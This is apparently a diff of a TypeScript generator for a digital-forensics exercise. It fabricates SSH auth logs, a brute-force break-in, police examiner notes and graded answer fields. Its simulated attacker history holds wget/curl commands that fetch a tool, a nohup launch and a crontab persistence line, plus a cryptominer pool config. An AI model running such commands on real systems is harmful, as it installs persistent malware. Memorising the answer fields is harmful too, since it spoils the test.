@@ -38,7 +38,8 @@ const PID_MAX = 32_768;
 /** Seconds since 2024-11-01T00:00:00 local time; the server's zone is UTC+01:00 all of November. */
 type Time = number;
 
-const at = (day: number, hour: number, minute = 0, second = 0): Time => (day - 1) * DAY + hour * 3600 + minute * 60 + second;
+const at = (day: number, hour: number, minute = 0, second = 0): Time =>
+  (day - 1) * DAY + hour * 3600 + minute * 60 + second;
 const two = (value: number): string => String(value).padStart(2, '0');
 
 /** The local clock's midnight of 1 November 2024, held in a UTC Date so that the getUTC* methods read the server's local clock. */
@@ -116,11 +117,52 @@ interface Account {
 }
 
 /** Staff names in the municipality's account format. Some have accounts on FS02; the others left or never had one. */
-const STAFF_POOL = ['j.dekker', 'm.jansen', 'a.bakker', 's.visser', 'p.smit', 'l.meijer', 'r.vos', 'e.mulder', 't.bos', 'n.peters', 'k.hendriks', 'w.degraaf'];
+const STAFF_POOL = [
+  'j.dekker',
+  'm.jansen',
+  'a.bakker',
+  's.visser',
+  'p.smit',
+  'l.meijer',
+  'r.vos',
+  'e.mulder',
+  't.bos',
+  'n.peters',
+  'k.hendriks',
+  'w.degraaf',
+];
 /** Names password-guessing tools try on every server. None exists on FS02. */
-const GENERIC_USERS = ['admin', 'test', 'user', 'ubuntu', 'guest', 'ftpuser', 'oracle', 'support', 'administrator', 'pi', 'deploy', 'git'];
+const GENERIC_USERS = [
+  'admin',
+  'test',
+  'user',
+  'ubuntu',
+  'guest',
+  'ftpuser',
+  'oracle',
+  'support',
+  'administrator',
+  'pi',
+  'deploy',
+  'git',
+];
 /** What scanners ask for. */
-const PROBE_USERS = ['admin', 'test', 'ubnt', 'pi', 'user', 'support', 'oracle', 'postgres', 'hadoop', 'nagios', 'vagrant', 'debian', 'steam', 'minecraft'];
+const PROBE_USERS = [
+  'admin',
+  'test',
+  'ubnt',
+  'pi',
+  'user',
+  'support',
+  'oracle',
+  'postgres',
+  'hadoop',
+  'nagios',
+  'vagrant',
+  'debian',
+  'steam',
+  'minecraft',
+];
 const ADMIN_COMMANDS = [
   '/usr/bin/apt update',
   '/usr/bin/apt list --upgradable',
@@ -154,7 +196,10 @@ const generate: VariantGenerator = ({ random }) => {
   };
   const internet = () => address(random.pick(['203.0.113', '198.51.100', '192.0.2']));
   const port = (): number => random.int(32_768, 60_999);
-  const fingerprint = (): string => Buffer.from(Array.from({ length: 32 }, () => random.int(0, 255))).toString('base64').replace(/=+$/u, '');
+  const fingerprint = (): string =>
+    Buffer.from(Array.from({ length: 32 }, () => random.int(0, 255)))
+      .toString('base64')
+      .replace(/=+$/u, '');
 
   // --- The period: auth.log.1 starts at the rotation of Sunday 10 November, auth.log at the one of Sunday 17 November.
   const previousRotation = at(10, 6, 25, 1) + random.int(3, 20);
@@ -163,7 +208,9 @@ const generate: VariantGenerator = ({ random }) => {
 
   // --- People and their accounts.
   const pool = random.shuffle(STAFF_POOL);
-  const staff: Account[] = pool.slice(0, 7).map((user) => ({ user, addresses: [address('10.20.0', 20, 199), address('10.8.0', 6, 250)] }));
+  const staff: Account[] = pool
+    .slice(0, 7)
+    .map((user) => ({ user, addresses: [address('10.20.0', 20, 199), address('10.8.0', 6, 250)] }));
   const formerStaff = pool.slice(7);
   const admin: Account = { user: 'h.okafor', addresses: ['10.20.0.5', address('10.8.0', 6, 250)] };
   const contractorIp = address('198.51.100');
@@ -184,7 +231,8 @@ const generate: VariantGenerator = ({ random }) => {
   const inPeriod = (time: Time) => time > previousRotation && time < shutdown;
 
   // --- Cron: a root job every five minutes, run-parts hourly at :17, daily at 06:25, weekly on Sunday at 06:47.
-  for (let time = at(10, 6, 25); time < shutdown; time += 300) episodes.push(cronRun(time + 1, 'root', random.int(0, 2)));
+  for (let time = at(10, 6, 25); time < shutdown; time += 300)
+    episodes.push(cronRun(time + 1, 'root', random.int(0, 2)));
   for (let day = 10; day <= 18; day++) {
     for (let hour = 0; hour < 24; hour++) episodes.push(cronRun(at(day, hour, 17, 1), 'root', random.int(0, 1)));
     episodes.push(cronRun(at(day, 6, 25, 1), 'root', random.int(20, 75)));
@@ -198,9 +246,17 @@ const generate: VariantGenerator = ({ random }) => {
     const working = workingDays.includes(day);
     for (const person of staff) {
       // The account holder states they did not log in at the weekend; others sometimes do, over the VPN.
-      const count = working ? (person === victim ? random.int(1, 2) : random.int(0, 2)) : person !== victim && random.chance(0.12) ? 1 : 0;
+      const count = working
+        ? person === victim
+          ? random.int(1, 2)
+          : random.int(0, 2)
+        : person !== victim && random.chance(0.12)
+          ? 1
+          : 0;
       for (let index = 0; index < count; index++) {
-        const start = working ? at(day, index === 0 ? random.int(8, 11) : random.int(13, 16), random.int(0, 59), random.int(0, 59)) : at(day, random.int(10, 20), random.int(0, 59), random.int(0, 59));
+        const start = working
+          ? at(day, index === 0 ? random.int(8, 11) : random.int(13, 16), random.int(0, 59), random.int(0, 59))
+          : at(day, random.int(10, 20), random.int(0, 59), random.int(0, 59));
         if (day === 18 && start > shutdown - 1800) continue;
         const from = working && random.chance(0.75) ? person.addresses[0]! : person.addresses[1]!;
         const length = Math.min(random.int(2 * 60, 50 * 60), shutdown - 60 - start);
@@ -213,7 +269,12 @@ const generate: VariantGenerator = ({ random }) => {
   {
     const day = random.pick([12, 13, 14]);
     const start = at(day, random.int(19, 21), random.int(0, 59), random.int(0, 50));
-    episodes.push(login(typoStaff.user, typoStaff.addresses[1]!, start, random.int(5 * 60, 30 * 60), 'password', { sftp: true, failuresFirst: [start - random.int(6, 12)] }));
+    episodes.push(
+      login(typoStaff.user, typoStaff.addresses[1]!, start, random.int(5 * 60, 30 * 60), 'password', {
+        sftp: true,
+        failuresFirst: [start - random.int(6, 12)],
+      }),
+    );
   }
 
   // --- The IT coordinator: key logins from her workstation with routine sudo, once su to the scanner account.
@@ -222,21 +283,40 @@ const generate: VariantGenerator = ({ random }) => {
     for (let index = random.int(1, 2); index > 0; index--) {
       const start = at(day, index === 2 ? random.int(8, 10) : random.int(13, 16), random.int(0, 59), random.int(0, 59));
       const length = random.int(5 * 60, 45 * 60);
-      const sudo = Array.from({ length: random.int(1, 3) }, (): [number, string] => [random.int(20, length - 20), random.pick(ADMIN_COMMANDS)]).sort((a, b) => a[0] - b[0]);
-      episodes.push(login(admin.user, admin.addresses[0]!, start, length, 'publickey', { key: adminKey, sudo, su: day === suDay && index === 1 ? random.int(30, length - 60) : undefined }));
+      const sudo = Array.from({ length: random.int(1, 3) }, (): [number, string] => [
+        random.int(20, length - 20),
+        random.pick(ADMIN_COMMANDS),
+      ]).sort((a, b) => a[0] - b[0]);
+      episodes.push(
+        login(admin.user, admin.addresses[0]!, start, length, 'publickey', {
+          key: adminKey,
+          sudo,
+          su: day === suDay && index === 1 ? random.int(30, length - 60) : undefined,
+        }),
+      );
     }
   }
   // --- The GIS contractor: key logins from its office on the internet, SFTP only.
   for (const day of random.shuffle([11, 12, 13, 14, 15]).slice(0, random.int(2, 4))) {
     const start = at(day, random.int(9, 16), random.int(0, 59), random.int(0, 59));
-    episodes.push(login('terrapoint', contractorIp, start, random.int(60, 20 * 60), 'publickey', { key: contractorKey, sftp: true }));
+    episodes.push(
+      login('terrapoint', contractorIp, start, random.int(60, 20 * 60), 'publickey', {
+        key: contractorKey,
+        sftp: true,
+      }),
+    );
   }
 
   // --- Internet noise: scanners that never try a password for a real account, and a botnet that guesses root passwords at night.
   for (const scanner of scannerIps) {
     for (let probe = random.int(1, 5); probe > 0; probe--) {
       const start = random.int(previousRotation + 60, shutdown - 600);
-      episodes.push(random.pick([noIdentification, invalidUserProbe, closedBeforeAuth, httpOnSsh, oldKeyExchange, politeProbe])(scanner, start));
+      episodes.push(
+        random.pick([noIdentification, invalidUserProbe, closedBeforeAuth, httpOnSsh, oldKeyExchange, politeProbe])(
+          scanner,
+          start,
+        ),
+      );
     }
     if (random.chance(0.35)) {
       let time = random.int(previousRotation + 60, shutdown - 3600);
@@ -278,13 +358,20 @@ const generate: VariantGenerator = ({ random }) => {
   }
   const connections: Connection[] = [];
   const sixes = (user: string, valid: boolean, count: number) => {
-    for (let index = 0; index < count; index++) connections.push({ user, valid, attempts: index === count - 1 && random.chance(0.3) ? random.int(1, 5) : 6 });
+    for (let index = 0; index < count; index++)
+      connections.push({ user, valid, attempts: index === count - 1 && random.chance(0.3) ? random.int(1, 5) : 6 });
   };
   sixes('root', true, random.int(8, 18));
-  for (const user of random.shuffle(GENERIC_USERS.filter((name) => name !== 'admin')).slice(0, random.int(4, 8)).concat('admin').reverse()) {
-    for (let count = random.int(1, 2); count > 0; count--) connections.push({ user, valid: false, attempts: random.int(1, 6) });
+  for (const user of random
+    .shuffle(GENERIC_USERS.filter((name) => name !== 'admin'))
+    .slice(0, random.int(4, 8))
+    .concat('admin')
+    .reverse()) {
+    for (let count = random.int(1, 2); count > 0; count--)
+      connections.push({ user, valid: false, attempts: random.int(1, 6) });
   }
-  for (const user of random.shuffle([...otherTargets.map((person) => person.user), ...formerTargets])) sixes(user, !formerStaff.includes(user), random.int(2, 5));
+  for (const user of random.shuffle([...otherTargets.map((person) => person.user), ...formerTargets]))
+    sixes(user, !formerStaff.includes(user), random.int(2, 5));
   sixes(victim.user, true, random.int(2, 7));
   const failuresBeforeSuccess = random.int(0, 4);
 
@@ -301,13 +388,25 @@ const generate: VariantGenerator = ({ random }) => {
   const runLength = clockAt;
   // The run crosses the weekly log rotation, so it is split over auth.log.1 and auth.log.
   const runStart = rotation - Math.round(runLength * (0.25 + random.next() * 0.5));
-  connections.forEach((connection, index) =>
-    episodes.push(guessConnection(attackerIp, connection.user, connection.valid, attemptTimes[index]!.map((time) => runStart + time))),
-  );
+  connections.forEach((connection, index) => {
+    episodes.push(
+      guessConnection(
+        attackerIp,
+        connection.user,
+        connection.valid,
+        attemptTimes[index]!.map((time) => runStart + time),
+      ),
+    );
+  });
   const firstLogin = runStart + runLength;
   const firstSession = random.int(10 * 60, 22 * 60);
-  episodes.push(login(victim.user, attackerIp, firstLogin, firstSession, 'password', { failuresFirst: successTimes.map((time) => runStart + time) }));
-  const failedAttempts = connections.reduce((total, connection) => total + connection.attempts, 0) + failuresBeforeSuccess;
+  episodes.push(
+    login(victim.user, attackerIp, firstLogin, firstSession, 'password', {
+      failuresFirst: successTimes.map((time) => runStart + time),
+    }),
+  );
+  const failedAttempts =
+    connections.reduce((total, connection) => total + connection.attempts, 0) + failuresBeforeSuccess;
 
   const secondLogin = at(17, random.int(17, 22), random.int(0, 59), random.int(0, 59));
   const secondSession = random.int(3 * 60, 8 * 60);
@@ -329,7 +428,14 @@ const generate: VariantGenerator = ({ random }) => {
   const accountList = ['cat /etc/passwd'];
   const cronLine = `*/10 * * * * pgrep -x ${tool} >/dev/null || (cd ${hiddenDir} && nohup ./${tool} -c config.json >/dev/null 2>&1 &)`;
   const installCron = [`(crontab -l 2>/dev/null; echo "${cronLine}") | crontab -`, 'crontab -l'];
-  const download = [`cd /tmp`, `mkdir ${hiddenDir.slice(5)}`, `cd ${hiddenDir.slice(5)}`, `wget -q ${downloadUrl}`, `curl -s -O ${configUrl}`, 'ls -la'];
+  const download = [
+    `cd /tmp`,
+    `mkdir ${hiddenDir.slice(5)}`,
+    `cd ${hiddenDir.slice(5)}`,
+    `wget -q ${downloadUrl}`,
+    `curl -s -O ${configUrl}`,
+    'ls -la',
+  ];
   const run = [`chmod +x ${tool}`, `nohup ./${tool} -c config.json &`, `ps aux | grep ${tool}`];
   const firstShell = [
     ...(passwdFirst ? [...accountList, 'w', ...identity] : [...identity, 'w', ...accountList]),
@@ -337,10 +443,19 @@ const generate: VariantGenerator = ({ random }) => {
     'free -m',
     'df -h',
     ...download,
-    ...(persistence === 'before-run' ? [...installCron, ...run] : persistence === 'after-run' ? [...run, ...installCron] : run),
+    ...(persistence === 'before-run'
+      ? [...installCron, ...run]
+      : persistence === 'after-run'
+        ? [...run, ...installCron]
+        : run),
     'exit',
   ];
-  const secondShell = ['uptime', `ps aux | grep ${tool} | grep -v grep`, ...(persistence === 'second-session' ? installCron : []), 'exit'];
+  const secondShell = [
+    'uptime',
+    `ps aux | grep ${tool} | grep -v grep`,
+    ...(persistence === 'second-session' ? installCron : []),
+    'exit',
+  ];
   const history = `${[...firstShell, ...secondShell].join('\n')}\n`;
   const actionOrder = [
     ...(passwdFirst ? ['account-list', 'system-info'] : ['system-info', 'account-list']),
@@ -353,8 +468,13 @@ const generate: VariantGenerator = ({ random }) => {
   const configAt = downloadedAt + random.int(2, 6);
   const startedAt = downloadedAt + random.int(40, 120);
   const cronInstalledAt =
-    persistence === 'second-session' ? secondLogin + Math.round(secondSession * 0.6) : persistence === 'before-run' ? startedAt - random.int(15, 30) : startedAt + random.int(30, 90);
-  for (let time = Math.ceil((cronInstalledAt + 1) / 600) * 600; time < shutdown; time += 600) episodes.push(cronRun(time + 1, victim.user, 0));
+    persistence === 'second-session'
+      ? secondLogin + Math.round(secondSession * 0.6)
+      : persistence === 'before-run'
+        ? startedAt - random.int(15, 30)
+        : startedAt + random.int(30, 90);
+  for (let time = Math.ceil((cronInstalledAt + 1) / 600) * 600; time < shutdown; time += 600)
+    episodes.push(cronRun(time + 1, victim.user, 0));
 
   // --- Monday: staff complain that the shares are slow; the IT coordinator looks, finds the job and shuts the server down.
   {
@@ -389,7 +509,8 @@ const generate: VariantGenerator = ({ random }) => {
     .map(({ draft }) => draft);
   ordered.push([shutdown, LOGIND, 'System is powering down.']);
   const lines = reduceRepeats(ordered);
-  const render = (selected: Draft[]) => selected.map(([time, program, message]) => `${syslogTime(time)} ${HOST} ${program}: ${message}\n`).join('');
+  const render = (selected: Draft[]) =>
+    selected.map(([time, program, message]) => `${syslogTime(time)} ${HOST} ${program}: ${message}\n`).join('');
   const rotatedLog = render(lines.filter(([time]) => time < rotation));
   const currentLog = render(lines.filter(([time]) => time >= rotation));
 
@@ -401,7 +522,15 @@ const generate: VariantGenerator = ({ random }) => {
       autosave: false,
       background: true,
       cpu: { enabled: true, 'max-threads-hint': 100 },
-      pools: [{ url: `pool.example.${random.pick(['com', 'org'])}:${random.pick([3333, 4444, 5555])}`, user: wallet, pass: 'x', keepalive: true, tls: false }],
+      pools: [
+        {
+          url: `pool.example.${random.pick(['com', 'org'])}:${random.pick([3333, 4444, 5555])}`,
+          user: wallet,
+          pass: 'x',
+          keepalive: true,
+          tls: false,
+        },
+      ],
     },
     null,
     2,
@@ -423,20 +552,35 @@ const generate: VariantGenerator = ({ random }) => {
   const hiddenDirTime = fullIso(startedAt, nanos());
   const tmpTime = fullIso(shutdown - random.int(100, 900), nanos());
   const hiddenFiles: [string, string][] = [
-    ['config.json', `-rw-r--r--  1 ${victimUid} ${victimUid} ${String(configBytes).padStart(7)} ${fullIso(configAt, nanos())} config.json`],
-    ['nohup.out', `-rw-------  1 ${victimUid} ${victimUid} ${String(nohupSize).padStart(7)} ${fullIso(shutdown - random.int(30, 400), nanos())} nohup.out`],
-    [tool, `-rwxr-xr-x  1 ${victimUid} ${victimUid} ${String(toolSize).padStart(7)} ${fullIso(serverModified, '000000000')} ${tool}`],
+    [
+      'config.json',
+      `-rw-r--r--  1 ${victimUid} ${victimUid} ${String(configBytes).padStart(7)} ${fullIso(configAt, nanos())} config.json`,
+    ],
+    [
+      'nohup.out',
+      `-rw-------  1 ${victimUid} ${victimUid} ${String(nohupSize).padStart(7)} ${fullIso(shutdown - random.int(30, 400), nanos())} nohup.out`,
+    ],
+    [
+      tool,
+      `-rwxr-xr-x  1 ${victimUid} ${victimUid} ${String(toolSize).padStart(7)} ${fullIso(serverModified, '000000000')} ${tool}`,
+    ],
   ];
   hiddenFiles.sort((a, b) => (a[0] < b[0] ? -1 : 1));
-  const systemdDirs = ['systemd-resolved.service', 'systemd-timesyncd.service'].map((unit) => `systemd-private-${random.hex(32)}-${unit}-${random.hex(6)}`);
+  const systemdDirs = ['systemd-resolved.service', 'systemd-timesyncd.service'].map(
+    (unit) => `systemd-private-${random.hex(32)}-${unit}-${random.hex(6)}`,
+  );
   const examinerName = 'T. Wilk';
   const tmpListing = [
-    ...[...tmpEntries, hiddenName].sort().map((name) =>
-      name === hiddenName
-        ? `drwxr-xr-x  2 ${victimUid} ${victimUid} 4096 ${hiddenDirTime} ${name}`
-        : `drwxrwxrwt  2 0    0    4096 ${fullIso(at(4, 7, random.int(2, 4), random.int(0, 59)), nanos())} ${name}`,
+    ...[...tmpEntries, hiddenName]
+      .sort()
+      .map((name) =>
+        name === hiddenName
+          ? `drwxr-xr-x  2 ${victimUid} ${victimUid} 4096 ${hiddenDirTime} ${name}`
+          : `drwxrwxrwt  2 0    0    4096 ${fullIso(at(4, 7, random.int(2, 4), random.int(0, 59)), nanos())} ${name}`,
+      ),
+    ...systemdDirs.map(
+      (name) => `drwx------  3 0    0    4096 ${fullIso(at(4, 7, 2, random.int(10, 40)), nanos())} ${name}`,
     ),
-    ...systemdDirs.map((name) => `drwx------  3 0    0    4096 ${fullIso(at(4, 7, 2, random.int(10, 40)), nanos())} ${name}`),
   ];
   const notes = [
     'NORTHVALE POLICE - REGIONAL CYBERCRIME UNIT - DIGITAL FORENSICS',
@@ -446,7 +590,7 @@ const generate: VariantGenerator = ({ random }) => {
     '',
     'NV/0 (ebk-fs02-sda.E01) verified: acquisition hash matches. Root file',
     'system (ext4) mounted read-only, noexec, at /mnt/fs02 on the forensic',
-    'workstation. Times below are shown in Europe/Amsterdam, the workstation\'s',
+    "workstation. Times below are shown in Europe/Amsterdam, the workstation's",
     'display zone (+0100; +0200 in summer time). Owners are shown as numeric',
     'ids because the workstation has no such accounts: look the ids up in',
     '/mnt/fs02/etc/passwd.',
@@ -514,7 +658,10 @@ const generate: VariantGenerator = ({ random }) => {
   };
   const inRotated = attackerFailures(rotatedLog);
   const inCurrent = attackerFailures(currentLog);
-  if (inRotated.total + inCurrent.total !== failedAttempts) throw new Error(`generator bug: the log holds ${inRotated.total + inCurrent.total} failures from the attacker, not ${failedAttempts}`);
+  if (inRotated.total + inCurrent.total !== failedAttempts)
+    throw new Error(
+      `generator bug: the log holds ${inRotated.total + inCurrent.total} failures from the attacker, not ${failedAttempts}`,
+    );
 
   return {
     files: {
@@ -531,7 +678,9 @@ const generate: VariantGenerator = ({ random }) => {
       typo_staff_vpn_ip: typoStaff.addresses[1]!,
       failed_attempts: failedAttempts,
       failed_lines_only: String(inRotated.lines + inCurrent.lines),
-      failed_repeat_lines_once: String(inRotated.lines + inCurrent.lines + inRotated.repeatLines + inCurrent.repeatLines),
+      failed_repeat_lines_once: String(
+        inRotated.lines + inCurrent.lines + inRotated.repeatLines + inCurrent.repeatLines,
+      ),
       failed_in_auth_log: String(inCurrent.total),
       failed_in_auth_log_1: String(inRotated.total),
       botnet_failures: String(botnetFailures),
@@ -543,9 +692,15 @@ const generate: VariantGenerator = ({ random }) => {
       first_login_syslog: syslogTime(firstLogin),
       first_login_utc: utcText(firstLogin),
       first_login_read_as_utc: localReadAsUtc(firstLogin),
-      last_failure: localIso(successTimes.length > 0 ? runStart + successTimes[successTimes.length - 1]! : runStart + attemptTimes[attemptTimes.length - 1]!.at(-1)!),
+      last_failure: localIso(
+        successTimes.length > 0
+          ? runStart + successTimes[successTimes.length - 1]!
+          : runStart + attemptTimes[attemptTimes.length - 1]!.at(-1)!,
+      ),
       second_login: localIso(secondLogin),
-      victim_own_login: localIso(Math.max(...(ownLogins.get(victim.user) ?? [at(15, 9)]).filter((time) => time < runStart))),
+      victim_own_login: localIso(
+        Math.max(...(ownLogins.get(victim.user) ?? [at(15, 9)]).filter((time) => time < runStart)),
+      ),
       rotation_time: syslogTime(rotation),
       download_url: downloadUrl,
       url_host_label: hostLabel,
@@ -587,7 +742,13 @@ const generate: VariantGenerator = ({ random }) => {
     start: Time,
     length: number,
     method: 'password' | 'publickey',
-    options: { key?: string; sftp?: boolean; failuresFirst?: Time[]; sudo?: [number, string][]; su?: number | undefined },
+    options: {
+      key?: string;
+      sftp?: boolean;
+      failuresFirst?: Time[];
+      sudo?: [number, string][];
+      su?: number | undefined;
+    },
   ): Episode {
     const clientPort = port();
     const failures = options.failuresFirst ?? [];
@@ -599,14 +760,21 @@ const generate: VariantGenerator = ({ random }) => {
         const sshd = `sshd[${monitor}]`;
         const lines: Draft[] = [];
         failures.forEach((time, index) => {
-          if (index === 0) lines.push([time - 2, sshd, `pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${from}  user=${user}`]);
+          if (index === 0)
+            lines.push([
+              time - 2,
+              sshd,
+              `pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${from}  user=${user}`,
+            ]);
           lines.push([time, sshd, `Failed password for ${user} from ${from} port ${clientPort} ssh2`]);
         });
         lines.push(
           [
             start,
             sshd,
-            method === 'password' ? `Accepted password for ${user} from ${from} port ${clientPort} ssh2` : `Accepted publickey for ${user} from ${from} port ${clientPort} ssh2: RSA SHA256:${options.key}`,
+            method === 'password'
+              ? `Accepted password for ${user} from ${from} port ${clientPort} ssh2`
+              : `Accepted publickey for ${user} from ${from} port ${clientPort} ssh2: RSA SHA256:${options.key}`,
           ],
           [start, sshd, `pam_unix(sshd:session): session opened for user ${user} by (uid=0)`],
           [start, LOGIND, `New session ${sessionId} of user ${user}.`],
@@ -619,13 +787,18 @@ const generate: VariantGenerator = ({ random }) => {
             [when, 'sudo', `${user.padStart(9)} : TTY=${tty} ; PWD=/home/${user} ; USER=root ; COMMAND=${command}`],
             [when, 'sudo', `pam_unix(sudo:session): session opened for user root by ${user}(uid=0)`],
           );
-          if (!command.startsWith('/sbin/shutdown')) lines.push([when + random.int(1, 40), 'sudo', 'pam_unix(sudo:session): session closed for user root']);
+          if (!command.startsWith('/sbin/shutdown'))
+            lines.push([when + random.int(1, 40), 'sudo', 'pam_unix(sudo:session): session closed for user root']);
         }
         if (options.su !== undefined) {
           const when = start + options.su;
           const su = `su[${suPid}]`;
           lines.push(
-            [when, 'sudo', `${user.padStart(9)} : TTY=${tty} ; PWD=/home/${user} ; USER=root ; COMMAND=/bin/su - svc-scan`],
+            [
+              when,
+              'sudo',
+              `${user.padStart(9)} : TTY=${tty} ; PWD=/home/${user} ; USER=root ; COMMAND=/bin/su - svc-scan`,
+            ],
             [when, 'sudo', `pam_unix(sudo:session): session opened for user root by ${user}(uid=0)`],
             [when, su, 'Successful su for svc-scan by root'],
             [when, su, `+ /dev/${tty} root:svc-scan`],
@@ -665,16 +838,29 @@ const generate: VariantGenerator = ({ random }) => {
       build: ([pidOf]) => {
         const sshd = `sshd[${pidOf}]`;
         const lines: Draft[] = [];
-        if (!valid) lines.push([first - 2, sshd, `Invalid user ${user} from ${from} port ${clientPort}`], [first - 2, sshd, `input_userauth_request: invalid user ${user} [preauth]`]);
+        if (!valid)
+          lines.push(
+            [first - 2, sshd, `Invalid user ${user} from ${from} port ${clientPort}`],
+            [first - 2, sshd, `input_userauth_request: invalid user ${user} [preauth]`],
+          );
         times.forEach((time, index) => {
           if (!valid) lines.push([time - 2, sshd, 'pam_unix(sshd:auth): check pass; user unknown']);
           if (index === 0) lines.push([time - 2, sshd, `pam_unix(sshd:auth): authentication failure; ${rhost}`]);
           lines.push([time, sshd, `Failed password for ${who} from ${from} port ${clientPort} ssh2`]);
         });
-        if (count >= 6) lines.push([last, sshd, `error: maximum authentication attempts exceeded for ${who} from ${from} port ${clientPort} ssh2 [preauth]`], [last, sshd, 'Disconnecting: Too many authentication failures [preauth]']);
+        if (count >= 6)
+          lines.push(
+            [
+              last,
+              sshd,
+              `error: maximum authentication attempts exceeded for ${who} from ${from} port ${clientPort} ssh2 [preauth]`,
+            ],
+            [last, sshd, 'Disconnecting: Too many authentication failures [preauth]'],
+          );
         else lines.push([last + 1, sshd, `Connection closed by ${from} port ${clientPort} [preauth]`]);
         const end = count >= 6 ? last : last + 1;
-        if (count > 1) lines.push([end, sshd, `PAM ${count - 1} more authentication failure${count > 2 ? 's' : ''}; ${rhost}`]);
+        if (count > 1)
+          lines.push([end, sshd, `PAM ${count - 1} more authentication failure${count > 2 ? 's' : ''}; ${rhost}`]);
         if (count > 3) lines.push([end, sshd, `PAM service(sshd) ignoring max retries; ${count} > 3`]);
         return lines;
       },
@@ -683,7 +869,13 @@ const generate: VariantGenerator = ({ random }) => {
 
   function single(start: Time, message: (clientPort: number) => string[]): Episode {
     const clientPort = port();
-    return { start, pids: 1, session: false, build: ([pidOf]) => message(clientPort).map((text, index): Draft => [start + (index > 0 ? 1 : 0), `sshd[${pidOf}]`, text]) };
+    return {
+      start,
+      pids: 1,
+      session: false,
+      build: ([pidOf]) =>
+        message(clientPort).map((text, index): Draft => [start + (index > 0 ? 1 : 0), `sshd[${pidOf}]`, text]),
+    };
   }
 
   /** A port scan: the connection closes without a word. */
@@ -709,7 +901,9 @@ const generate: VariantGenerator = ({ random }) => {
 
   /** A web scanner that speaks HTTP to port 22. */
   function httpOnSsh(from: string, start: Time): Episode {
-    return single(start, (clientPort) => [`Bad protocol version identification 'GET / HTTP/1.1' from ${from} port ${clientPort}`]);
+    return single(start, (clientPort) => [
+      `Bad protocol version identification 'GET / HTTP/1.1' from ${from} port ${clientPort}`,
+    ]);
   }
 
   /** An old scanner whose key exchange algorithms the server refuses. */
@@ -721,7 +915,10 @@ const generate: VariantGenerator = ({ random }) => {
 
   /** A research scanner that says goodbye. */
   function politeProbe(from: string, start: Time): Episode {
-    return single(start, (clientPort) => [`Received disconnect from ${from} port ${clientPort}:11: Normal Shutdown, Thank you for playing [preauth]`, `Disconnected from ${from} port ${clientPort} [preauth]`]);
+    return single(start, (clientPort) => [
+      `Received disconnect from ${from} port ${clientPort}:11: Normal Shutdown, Thank you for playing [preauth]`,
+      `Disconnected from ${from} port ${clientPort} [preauth]`,
+    ]);
   }
 };
 
@@ -738,7 +935,8 @@ function reduceRepeats(lines: Draft[]): Draft[] {
   const flush = () => {
     // rsyslog writes a single repeat as the message itself (ratelimit.c), two or more as a summary.
     if (previous && repeats === 1) reduced.push([lastRepeat, previous[1], previous[2]]);
-    else if (previous && repeats > 1) reduced.push([lastRepeat, previous[1], `message repeated ${repeats} times: [ ${previous[2]}]`]);
+    else if (previous && repeats > 1)
+      reduced.push([lastRepeat, previous[1], `message repeated ${repeats} times: [ ${previous[2]}]`]);
     repeats = 0;
   };
   for (const line of lines) {
